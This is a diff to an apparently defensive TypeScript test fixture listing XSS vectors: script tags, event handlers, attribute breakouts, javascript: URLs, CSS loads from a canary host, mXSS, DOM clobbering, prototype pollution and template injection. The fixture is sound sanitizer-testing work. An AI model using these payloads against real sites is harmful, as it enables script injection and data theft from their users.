@@ -1,9 +1,9 @@
 /**
- * Texts that run a script, load something or leave their place wherever they are written without care. `RUN` is the call
- * that counts, `HOST` a host that nobody may ask for anything, `N` the vector's own number.
+ * Texts that execute a script, load a resource or break out of their context when written unescaped. `RUN` is the call
+ * that counts, `HOST` the canary host, `N` the vector's own number.
  */
 const TEMPLATES: readonly string[] = [
-  // Script elements, in every spelling.
+  // Script elements, in various spellings.
   '<script>RUN</script>',
   '<SCRIPT>RUN</SCRIPT>',
   '<ScRiPt >RUN</sCrIpT >',
@@ -44,7 +44,7 @@ const TEMPLATES: readonly string[] = [
   '\ufeff+ADw-img src=x onerror=RUN+AD4-',
   '¼script¾RUN¼/script¾',
   '＜script＞RUN＜/script＞',
-  // Handlers of events.
+  // Event handlers.
   '<img src=x onerror=RUN>',
   '<IMG SRC=x ONERROR=RUN>',
   '<img src=x onerror="RUN">',
@@ -101,7 +101,7 @@ const TEMPLATES: readonly string[] = [
   '<style>@keyframes x{}</style><p style="animation:x 1s" onanimationstart=RUN>',
   '<xss style="transition:color 1s" ontransitionend=RUN>x</xss>',
   '<custom-tag onpointerenter=RUN>x</custom-tag>',
-  // Out of an attribute.
+  // Attribute breakouts.
   '" onerror="RUN',
   "' onerror='RUN",
   '` onerror=`RUN',
@@ -116,7 +116,7 @@ const TEMPLATES: readonly string[] = [
   '&quot; onerror=&quot;RUN',
   '\\" onerror=\\"RUN',
   '\\"><img src=x onerror=RUN>',
-  // Addresses.
+  // URLs.
   'javascript:RUN',
   'JaVaScRiPt:RUN',
   ' javascript:RUN',
@@ -174,7 +174,7 @@ const TEMPLATES: readonly string[] = [
   "/x'),url('//HOST/N.png",
   '/x\\),url(//HOST/N.png',
   '/a 1x, //HOST/N.png 2x',
-  // Frames, forms and what changes where the page is.
+  // Frames, forms and navigation.
   '<iframe src="javascript:parent.RUN"></iframe>',
   '<iframe srcdoc="<script>parent.RUN</script>"></iframe>',
   '<iframe srcdoc="&lt;img src=x onerror=parent.RUN&gt;"></iframe>',
@@ -202,7 +202,7 @@ const TEMPLATES: readonly string[] = [
   '<link rel=icon href="//HOST/N.ico">',
   '<link rel=import href="//HOST/N.html">',
   '<portal src="//HOST/N.html"></portal>',
-  // Style.
+  // Styles.
   '<style>@import "//HOST/N.css";</style>',
   '<style>*{background:url(//HOST/N.png)}</style>',
   '<div style="background:url(//HOST/N.png)">x</div>',
@@ -226,7 +226,7 @@ const TEMPLATES: readonly string[] = [
   '/**/;background:url(//HOST/N.png)/**/',
   '@import "//HOST/N.css";',
   '@font-face{font-family:x;src:url(//HOST/N.woff)}',
-  // What changes while it is parsed.
+  // Mutations during parsing (mXSS).
   '<noscript><p title="</noscript><img src=x onerror=RUN>">',
   '<math><mtext><table><mglyph><style><img src=x onerror=RUN>',
   '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=RUN&gt;">',
@@ -243,7 +243,7 @@ const TEMPLATES: readonly string[] = [
   '<title><img src=x onerror=RUN></title><img src=x onerror=RUN>',
   '<p title="<!--"><img src=x onerror=RUN>-->',
   '<a title="&lt;/a&gt;&lt;img src=x onerror=RUN&gt;">x</a>',
-  // Names that programs trip over.
+  // Names that collide with DOM properties (clobbering).
   '<img name=body><form name=cookie><input name=attributes>',
   '<form id=documentElement><input name=nodeType><img src=x onerror=RUN>',
   '<a id=mw-bootstrap>{"script":"//HOST/N.js"}</a>',
@@ -254,7 +254,7 @@ const TEMPLATES: readonly string[] = [
   '{"__proto__":{"polluted":"N"}}',
   '{"constructor":{"prototype":{"onerror":"RUN"}}}',
   'toString',
-  // Other languages in the page.
+  // Template languages.
   '{{constructor.constructor("RUN")()}}',
   '{{RUN}}',
   '${RUN}',
@@ -283,7 +283,7 @@ const TEMPLATES: readonly string[] = [
   '<svg onload=setTimeout("__hit(N)")>',
   '<img src=x onerror=import("//HOST/N.js")>',
   '<img src=x onerror=fetch("//HOST/N")>',
-  // Odd characters around it.
+  // Surrounding special characters.
   '\u202e<img src=x onerror=RUN>\u202c',
   '\u200f\u2067<script>RUN</script>\u2069',
   '\ud800<img src=x onerror=RUN>',
@@ -297,13 +297,13 @@ const TEMPLATES: readonly string[] = [
   `${'<div>'.repeat(600)}<script>RUN</script>`,
 ]
 
-/** The host that no vector may get anything from. */
+/** Canary host that no vector may reach. */
 export const CANARY_HOST = 'canary.invalid'
 
-/** Stands for it in addresses of pictures that the mall's own database gives: from there a picture may come, nothing else. */
+/** Host of picture URLs in the mall's own database: pictures may load from there, nothing else. */
 export const PICTURE_HOST = 'pictures.invalid'
 
-/** Every vector; its place in the list is the number that it calls with. */
+/** All vectors; the index in the list is the number that a vector reports. */
 export const VECTORS: readonly string[] = TEMPLATES.map((template, number) =>
   template
     .replaceAll('BASE64', btoa(`<script>__hit(${number})</script>`))
